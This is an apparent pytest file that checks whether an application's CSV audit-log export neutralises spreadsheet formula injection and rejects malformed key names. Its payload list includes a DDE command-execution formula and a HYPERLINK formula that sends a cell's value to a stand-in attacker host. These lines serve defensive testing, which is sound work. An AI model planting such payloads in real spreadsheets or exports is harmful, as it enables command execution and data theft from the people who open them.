"""Words that a spreadsheet would run: none comes out of the audit log as a formula, and each comes out whole."""

import csv
import io
import unicodedata

import pytest

from qrdesk.core.cells import unguarded
from qrdesk.core.operations import PREFIX
from tests.desks import Desk
from tests.hostile.envelope import refused

FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "|calc", "%0A=1", "＝1+1", "﹣1", "'=1", "''=1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/"&A1)', "=1\",\"=1", "\u00a0=1", "\u2003@x",
)  # fmt: skip
NAMES = ("a\r\nb", "a\tb", "a\0b", "\x1b[31m", "a\u2028b", "", " ", "\ud800", "x" * 121)


def test_no_cell_of_the_audit_log_is_a_formula_and_each_is_whole(api: Desk) -> None:
    for formula in FORMULAS:
        made = api.ask("POST", f"{PREFIX}/keys", {"name": formula})
        answer = api.ask(
            "POST", f"{PREFIX}/tags", {"name": formula}, key=made.data["key"], headers={"User-Agent": formula}
        )
        assert answer.status in {201, 409}, formula  # to a person some of them are the same
    text = api.ask("GET", f"{PREFIX}/audit/export?format=csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    for row in rows:
        for cell in row.values():
            shown = unicodedata.normalize("NFKC", cell).strip()
            assert not shown.startswith(tuple("=+-@|%\t\r\0")), row
    found = {unguarded(row[name]) for row in rows for name in ("actor", "subject_name", "agent")}
    assert {" ".join(formula.split()) for formula in FORMULAS} <= {" ".join(one.split()) for one in found}


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_one_line_that_can_be_read(api: Desk, name: str) -> None:
    answer = api.ask("POST", f"{PREFIX}/keys", {"name": name})
    if answer.status != 201:
        assert refused(answer) == "invalid"
    else:
        assert answer.data["name"].isprintable()
        assert answer.data["name"].strip()
